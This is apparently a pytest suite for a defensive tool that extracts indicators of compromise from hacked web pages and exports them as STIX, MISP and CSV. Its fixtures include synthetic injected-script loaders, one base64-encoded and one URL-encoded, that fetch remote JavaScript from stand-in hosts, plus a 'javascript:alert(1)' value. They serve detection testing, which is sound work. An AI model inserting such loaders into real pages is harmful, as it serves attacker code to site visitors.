"""Indicators of compromise from hacked pages: findings built from synthetic page scans (the
real injected-script decoder) plus hostile hand-written values, written as STIX 2.1 (every
object strictly parsed by stix2), MISP and CSV, and read back. Every address is a documentation
address (192.0.2.0/24, 198.51.100.0/24, 2001:db8::/32) or under example.org/.net/.invalid."""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import stix2

from raqib.content.scripts import find_injected_scripts
from raqib.errors import InputError
from raqib.exchange import iocs, stix
from raqib.exchange.iocs import IocFormat

NEWS = "<p>The port authority said container traffic rose four percent this quarter.</p>"
LOADER = (
    "var s=document.createElement('script');"
    "s.src='http://198.51.100.7/js/lib.js';document.head.appendChild(s);"
)
WRITER = (
    "document.write(unescape('%3Cscript%20src%3D%22https%3A%2F%2Fcdn.example.net"
    "%2Fx.js%22%3E%3C%2Fscript%3E'));"
)
NOW = datetime(2026, 5, 6, 7, 8, 9, tzinfo=UTC)


def _page(body: str) -> str:
    return f"<!doctype html><html><head><title>News</title></head><body>{NEWS}{body}</body></html>"


def _finding(html: str, time: str | None) -> dict[str, Any]:
    """A finding as `raqib scan` writes it for a saved page (only the fields used here)."""
    scripts = [s.as_dict() for s in find_injected_scripts(html)]
    assert scripts, "the synthetic page should carry an injected script"
    return {
        "item": {"id": "1", "source": "file", "kind": "page", "time": time},
        "page": {"injected_scripts": scripts},
    }


def _hostile(iocs_list: list[Any]) -> dict[str, Any]:
    script = {"technique": "hand_written", "iocs": iocs_list, "evidence": "", "layers": 0}
    return {"item": {"time": "2026-01-01T00:00:00Z"}, "page": {"injected_scripts": [script]}}


QUOTED_URL = "https://example.org/p'a\\th/x.js?q='1'"
HOSTILE = [
    {"type": "url", "value": QUOTED_URL},
    {"type": "host", "value": "[2001:db8::7]"},
    {"type": "ip", "value": "2001:DB8::8"},
    {"type": "url", "value": "https://example.org/" + "a" * 3000},  # too long
    {"type": "url", "value": "https://example.org/x\u0000y"},  # control character
    {"type": "url", "value": "javascript:alert(1)"},  # not http(s)
    {"type": "host", "value": "bad host name"},
    {"type": "ip", "value": "999.1.2.3"},
    {"type": "ip", "value": "example.org"},  # a name where an address belongs
    {"type": "ip", "value": "fe80::1%zone'x"},  # scoped: means nothing elsewhere
    {"type": "email", "value": "x@example.org"},  # unknown type
    {"type": "url", "value": ["not", "a", "string"]},
    "not an object",
]


@pytest.fixture
def findings(tmp_path: Path) -> Path:
    b64 = base64.b64encode(LOADER.encode()).decode()
    first = _page(f'<script src="data:text/javascript;base64,{b64}"></script>')
    lines = [
        json.dumps(_finding(first, "2026-03-04T05:06:07+00:00")),
        json.dumps(_finding(first, "2026-02-01T00:00:00+00:00")),  # same IoCs, earlier
        json.dumps(_finding(_page(f"<script>{WRITER}</script>"), None)),  # no time: now
        json.dumps(_hostile(HOSTILE)),
        "{not json",
        "[1, 2, 3]",
        "",
    ]
    path = tmp_path / "findings.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_collects_distinct_valid_indicators(findings: Path) -> None:
    report = iocs.collect(findings, now=NOW)
    assert report.findings == 4 and report.lines_skipped == 2
    assert report.values_skipped == 10
    by_value = {(i.kind, i.value): i for i in report.sorted()}
    assert set(by_value) == {
        ("url", "http://198.51.100.7/js/lib.js"),
        ("ipv4-addr", "198.51.100.7"),
        ("url", "https://cdn.example.net/x.js"),
        ("domain-name", "cdn.example.net"),
        ("url", QUOTED_URL),
        ("ipv6-addr", "2001:db8::7"),
        ("ipv6-addr", "2001:db8::8"),
    }
    loader = by_value[("url", "http://198.51.100.7/js/lib.js")]
    assert loader.pages == 2
    assert loader.first_seen == datetime(2026, 2, 1, tzinfo=UTC)
    assert by_value[("domain-name", "cdn.example.net")].first_seen == NOW
    assert by_value[("url", QUOTED_URL)].techniques == {"hand_written"}


def test_stix_bundle_parses_strictly_and_is_deterministic(findings: Path) -> None:
    report = iocs.collect(findings, now=NOW)
    out = io.StringIO()
    assert iocs.write_iocs(report, IocFormat.STIX, "green", out) == 7
    bundle = json.loads(out.getvalue())
    parsed = stix2.parse(bundle, allow_custom=False)
    assert len(parsed.objects) == 9
    for obj in bundle["objects"]:
        stix2.parse(obj, allow_custom=False)
    indicators = [o for o in bundle["objects"] if o["type"] == "indicator"]
    assert {i["object_marking_refs"][0] for i in indicators} == {stix.TLP2_IDS["green"]}
    patterns = {i["pattern"] for i in indicators}
    assert "[ipv6-addr:value = '2001:db8::7']" in patterns
    assert "[domain-name:value = 'cdn.example.net']" in patterns
    # The quote and backslash are escaped and read back exactly.
    quoted = next(i for i in indicators if "p\\'a" in i["pattern"])
    assert stix.parse_pattern(quoted["pattern"]) == ("url", QUOTED_URL)
    loader = next(i for i in indicators if i["pattern"] == "[ipv4-addr:value = '198.51.100.7']")
    assert loader["valid_from"] == "2026-02-01T00:00:00.000Z"
    again = io.StringIO()
    iocs.write_iocs(iocs.collect(findings, now=NOW), IocFormat.STIX, "green", again)
    assert again.getvalue() == out.getvalue()


def test_misp_and_csv_outputs_read_back(findings: Path) -> None:
    report = iocs.collect(findings, now=NOW)
    out = io.StringIO()
    assert iocs.write_iocs(report, IocFormat.MISP, "amber", out) == 7
    event = json.loads(out.getvalue())["Event"]
    assert event["distribution"] == "1" and event["attribute_count"] == "7"
    assert {"name": "tlp:amber"} in event["Tag"]
    kinds = {(a["type"], a["value"]) for a in event["Attribute"]}
    assert ("ip-dst", "2001:db8::8") in kinds and ("domain", "cdn.example.net") in kinds
    assert {a["category"] for a in event["Attribute"]} == {"Network activity"}
    assert all(a["to_ids"] for a in event["Attribute"])

    table = io.StringIO()
    assert iocs.write_iocs(report, IocFormat.CSV, "amber", table) == 7
    rows = list(csv.DictReader(io.StringIO(table.getvalue())))
    assert tuple(rows[0]) == iocs.CSV_FIELDS
    assert {(r["type"], r["value"]) for r in rows} == {(i.kind, i.value) for i in report.sorted()}
    ids = {r["stix_id"] for r in rows}
    assert {i.id for i in report.sorted()} == ids


def test_red_is_refused_for_misp_only(findings: Path) -> None:
    report = iocs.collect(findings, now=NOW)
    out = io.StringIO()
    with pytest.raises(InputError, match="TLP:RED"):
        iocs.write_iocs(report, IocFormat.MISP, "red", out)
    assert out.getvalue() == ""
    iocs.write_iocs(report, IocFormat.STIX, "red", out)
    assert stix.TLP2_IDS["red"] in out.getvalue()
    with pytest.raises(InputError, match="unknown TLP"):
        iocs.check_output(IocFormat.STIX, "purple")


def test_an_overlong_line_is_skipped_not_read_whole(tmp_path: Path) -> None:
    path = tmp_path / "big.jsonl"
    good = json.dumps(_hostile([{"type": "ip", "value": "192.0.2.9"}]))
    path.write_text('{"x": "' + "a" * (iocs.MAX_LINE_CHARS + 10) + '"}\n' + good + "\n")
    report = iocs.collect(path, now=NOW)
    assert (report.lines_skipped, report.findings) == (1, 1)
    assert [i.value for i in report.sorted()] == ["192.0.2.9"]


def test_iocs_command_writes_a_file(cli: Any, findings: Path) -> None:
    done = cli("iocs", findings, "--format", "stix", "--tlp", "clear", "-o", "iocs.json")
    assert done.code == 0, done.stderr
    assert "wrote 7 indicators" in done.stderr and "10 invalid values" in done.stderr
    bundle = json.loads((cli.cwd / "iocs.json").read_text(encoding="utf-8"))
    stix2.parse(bundle, allow_custom=False)
    refused = cli("iocs", findings, "--format", "misp", "--tlp", "red", "-o", "never.json")
    assert refused.code == 2 and "TLP:RED" in refused.stderr
    assert not (cli.cwd / "never.json").exists()
